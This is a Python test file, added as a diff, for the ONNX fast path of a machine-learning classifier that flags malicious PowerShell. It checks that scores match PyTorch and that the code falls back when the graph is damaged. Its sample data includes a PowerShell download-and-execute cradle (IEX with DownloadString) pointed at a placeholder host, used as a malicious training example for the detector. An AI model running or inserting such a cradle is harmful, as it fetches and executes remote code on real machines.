@@ -1,0 +1,210 @@
+"""The ONNX fast path for predict (pipeline/model/onnx_export.py, onnx_runtime.py): on a tiny model trained here, the
+ONNX graph run by ONNX Runtime with the `tokenizers` library gives the PyTorch path's prompt ids and scores (to 1e-5)
+at every batch size, with truncation and hostile text; predict's options give the same output on both paths; a
+missing graph falls back to PyTorch quietly, a stale or damaged one with a note; the fast path never imports torch."""
+from __future__ import annotations
+
+import json
+import os
+import shutil
+import subprocess
+import sys
+from pathlib import Path
+
+import numpy as np
+import pytest
+import torch
+from typer.testing import CliRunner
+
+from pipeline.cli import app
+from pipeline.explain import token_read_mask
+from pipeline.model import classifier as classifier_module
+from pipeline.model import onnx_runtime, prompt
+from pipeline.model.classifier import THRESHOLD_FILE, Classifier
+from pipeline.model.onnx_export import export_onnx
+from pipeline.model.onnx_runtime import ONNX_FILE, SIDECAR_FILE, OnnxClassifier, open_fast
+from pipeline.predict import open_scorer
+from pipeline.records import write_json
+
+from .conftest import TINY_CONFIG
+
+MAX_LEN = 64
+REPO = Path(__file__).resolve().parents[1]
+MALICIOUS = "IEX (New-Object Net.WebClient).DownloadString('http://x.example/a.ps1')"
+BENIGN = "Get-ChildItem -Path . | Sort-Object Length"
+HOSTILE = ["Write-Host '<|endoftext|>' <pad> \x1b[2J", "x" * 2000, "a\nb\n" * 300 + MALICIOUS, "é ü \u202e ☃", "$"]
+
+
+def _rows(n: int) -> tuple[list[str], list[str]]:
+    texts = [(MALICIOUS if i % 2 else BENIGN) + f"\n# {i}\n" + "Write-Output $i\n" * (i % 7) for i in range(n)]
+    return texts, ["malicious" if i % 2 else "benign" for i in range(n)]
+
+
+@pytest.fixture(scope="module")
+def run_dir(tmp_path_factory) -> Path:
+    """runs/<name> with a tiny StarCoder2 trained for a few steps (so scores are not all 0.5) and its ONNX export."""
+    from datasets import Dataset
+    from trl import SFTConfig
+
+    from pipeline.model.trainer import VerdictTrainer
+
+    from .model_configs import load_tiny
+
+    torch.set_num_threads(1)
+    texts, labels = _rows(32)
+    model, tokenizer, _ = load_tiny(texts + HOSTILE, MAX_LEN, "full")
+    data = Dataset.from_list([prompt.build_training_row(t, "powershell", y, tokenizer, MAX_LEN)
+                              for t, y in zip(texts, labels)])
+    out = tmp_path_factory.mktemp("onnx_run")
+    config = SFTConfig(output_dir=str(out / "trainer"), max_length=MAX_LEN, packing=False, completion_only_loss=True,
+                       use_cpu=True, bf16=False, gradient_checkpointing=False, report_to="none",
+                       per_device_train_batch_size=8, learning_rate=1e-2, max_steps=8, eval_strategy="no",
+                       save_strategy="no", seed=0, label_smoothing_factor=0.0, disable_tqdm=True)
+    trainer = VerdictTrainer(model, config, label_smoothing=0.0, train_dataset=data, processing_class=tokenizer)
+    trainer.train()
+    clf_dir = Classifier.save(trainer.model, tokenizer, out / "train" / "classifier", base_model=None,
+                              max_length=MAX_LEN, head_ratio=0.75)
+    write_json(out / "evaluate" / THRESHOLD_FILE, {"threshold": 0.5})
+    export_onnx(clf_dir)
+    return out
+
+
+def _both(run_dir: Path) -> tuple[Classifier, OnnxClassifier]:
+    fast, why = open_fast(run_dir)
+    assert fast is not None, why
+    return classifier_module.open_classifier(run_dir, device="cpu"), fast
+
+
+def test_prompt_ids_and_read_masks_match_the_transformers_tokenizer(run_dir):
+    slow, fast = _both(run_dir)
+    texts, _ = _rows(8)
+    for text in texts + HOSTILE:
+        for lang in ("powershell", "python"):
+            assert prompt.encode(text, lang, fast.tokenizer, MAX_LEN) == prompt.encode(text, lang, slow.tokenizer,
+                                                                                       MAX_LEN)
+            assert token_read_mask(text, lang, fast.tokenizer, MAX_LEN, 0.75) == \
+                token_read_mask(text, lang, slow.tokenizer, MAX_LEN, 0.75)
+    assert prompt.label_token_ids(fast.tokenizer) == prompt.label_token_ids(slow.tokenizer)
+
+
+@pytest.mark.parametrize("batch_size", [1, 3, 32])
+def test_onnx_scores_equal_pytorch_scores(run_dir, batch_size):
+    slow, fast = _both(run_dir)
+    texts, _ = _rows(20)
+    texts += HOSTILE
+    langs = ["powershell"] * len(texts)
+    expected, got = slow.score(texts, langs, batch_size), fast.score(texts, langs, batch_size)
+    assert expected.std() > 1e-4  # trained: the scores differ between scripts, so equality means something
+    np.testing.assert_allclose(got, expected, atol=1e-5, rtol=0)
+    assert fast.threshold == slow.threshold == 0.5
+
+
+def _predict_json(run_dir: Path, files: list[Path], *extra: str):
+    result = CliRunner().invoke(app, ["predict", *map(str, files), "--run-dir", str(run_dir), "--format", "json",
+                                      "--config", str(TINY_CONFIG), *extra])
+    return result.exit_code, json.loads(result.stdout or "[]"), result.stderr
+
+
+def test_predict_options_give_the_same_output_on_both_paths(run_dir, tmp_path):
+    files = []
+    for i, text in enumerate([MALICIOUS * 3, BENIGN, HOSTILE[2]]):
+        files.append(tmp_path / f"{i}.ps1")
+        files[-1].write_text(text, encoding="utf-8")
+    fast_code, fast_rows, fast_err = _predict_json(run_dir, files, "--explain", "2", "--fail-on-malicious")
+    assert "PyTorch" not in fast_err
+    slow_dir = tmp_path / "slow"  # the same run with a damaged graph: PyTorch scores, and says why
+    shutil.copytree(run_dir, slow_dir)
+    with open(slow_dir / "train" / "classifier" / ONNX_FILE, "ab") as f:
+        f.write(b"\0")
+    slow_code, slow_rows, slow_err = _predict_json(slow_dir, files, "--explain", "2", "--fail-on-malicious")
+    assert "scoring with PyTorch" in slow_err and ONNX_FILE in slow_err
+    assert fast_code == slow_code
+    assert [(r["location"].replace(str(slow_dir), ""), r["verdict"]) for r in slow_rows] == \
+        [(r["location"].replace(str(run_dir), ""), r["verdict"]) for r in fast_rows]
+    for a, b in zip(fast_rows, slow_rows):
+        assert abs(a["score"] - b["score"]) < 1e-5
+        assert [u["line"] for u in a["lines"]] == [u["line"] for u in b["lines"]]
+        for ua, ub in zip(a["lines"], b["lines"]):
+            assert abs(ua["contribution"] - ub["contribution"]) < 1e-5
+
+
+def test_stale_damaged_or_missing_graph_falls_back_to_pytorch(run_dir, tmp_path):
+    stale = tmp_path / "stale"
+    shutil.copytree(run_dir, stale)
+    spec = stale / "train" / "classifier" / "sgpipe_scoring.json"  # a retrained classifier (here: new spec)
+    spec.write_text(spec.read_text().replace("0.75", "0.5"))
+    notes = []
+    clf = open_scorer(stale, device="cpu", note=notes.append)
+    assert isinstance(clf, Classifier) and clf.head_ratio == 0.5  # the new settings, scored by PyTorch
+    assert "stale" in notes[0]
+
+    damaged = tmp_path / "damaged"
+    shutil.copytree(run_dir, damaged)
+    with open(damaged / "train" / "classifier" / ONNX_FILE, "ab") as f:
+        f.write(b"\0")
+    assert open_fast(damaged)[0] is None and "does not match" in open_fast(damaged)[1]
+
+    (damaged / "train" / "classifier" / SIDECAR_FILE).unlink()
+    notes.clear()
+    assert isinstance(open_scorer(damaged, device="cpu", note=notes.append), Classifier)
+    assert "only one of" in notes[0]
+
+    (damaged / "train" / "classifier" / ONNX_FILE).unlink()  # no graph (a LoRA run, an older run): PyTorch, quietly
+    notes.clear()
+    assert isinstance(open_scorer(damaged, device="cpu", note=notes.append), Classifier)
+    assert notes == []
+
+    notes.clear()  # a wrong path: open_classifier's error, with no note about a fast path before it
+    with pytest.raises(FileNotFoundError):
+        open_scorer(tmp_path / "missing", device="cpu", note=notes.append)
+    assert notes == []
+
+
+def test_export_format_onnx_is_a_model_predict_runs(run_dir, tmp_path):
+    out = tmp_path / "export"
+    result = CliRunner().invoke(app, ["export", str(out), "--run-dir", str(run_dir), "--format", "onnx"])
+    assert result.exit_code == 0, result.output
+    assert {ONNX_FILE, SIDECAR_FILE, "tokenizer.json", THRESHOLD_FILE} <= {p.name for p in out.iterdir()}
+    fast, why = open_fast(out)
+    assert fast is not None, why
+    texts, _ = _rows(6)
+    expected = classifier_module.open_classifier(run_dir, device="cpu").score(texts, ["powershell"] * 6)
+    np.testing.assert_allclose(fast.score(texts, ["powershell"] * 6), expected, atol=1e-5, rtol=0)
+    bad = CliRunner().invoke(app, ["export", str(tmp_path / "x"), "--run-dir", str(run_dir), "--format", "onnx",
+                                   "--dtype", "float16"])
+    assert bad.exit_code == 2
+
+
+def test_fast_path_imports_neither_torch_nor_transformers(run_dir, tmp_path):
+    script = tmp_path / "a.ps1"
+    script.write_text(MALICIOUS, encoding="utf-8")
+    code = ("import sys\nfrom pipeline.cli import app\n"
+            f"try:\n    app([{'predict'!r}, {str(script)!r}, '--run-dir', {str(run_dir)!r}, '--format', 'jsonl', "
+            f"'--config', {str(TINY_CONFIG)!r}])\nexcept SystemExit as e:\n    assert not e.code, e.code\n"
+            "heavy = [m for m in ('torch', 'transformers', 'peft', 'trl', 'sklearn') if m in sys.modules]\n"
+            "assert not heavy, heavy\n")
+    done = subprocess.run([sys.executable, "-c", code], cwd=REPO, capture_output=True, text=True, timeout=300,
+                          env={**os.environ, "PYTHONPATH": str(REPO)})
+    assert done.returncode == 0, done.stderr[-2000:]
+    assert json.loads(done.stdout.splitlines()[0])["score"] is not None
+
+
+def test_constants_repeated_from_classifier_module_agree():
+    assert onnx_runtime.THRESHOLD_FILE == classifier_module.THRESHOLD_FILE
+    from pipeline.model.head import CLASSIFIER_FILE
+
+    assert CLASSIFIER_FILE == "sgpipe_classifier.json"  # onnx_runtime._locate looks for it by name
+
+
+def test_train_stage_writes_a_current_onnx_graph_predict_picks_up(tmp_path, tiny_overrides):
+    from pipeline.config import load_config
+    from pipeline.runner import run_pipeline
+
+    fast = ["training.max_steps=2", "training.eval_steps=2", "training.save_steps=2", "training.torch_threads=1"]
+    cfg = load_config(TINY_CONFIG, overrides=[*tiny_overrides, *fast])
+    run_pipeline(cfg, tmp_path, until="train", log=lambda m: None)
+    clf, why = open_fast(tmp_path)
+    assert clf is not None, why
+    texts, _ = _rows(4)
+    expected = classifier_module.open_classifier(tmp_path, device="cpu").score(texts, ["powershell"] * 4)
+    np.testing.assert_allclose(clf.score(texts, ["powershell"] * 4), expected, atol=1e-5, rtol=0)
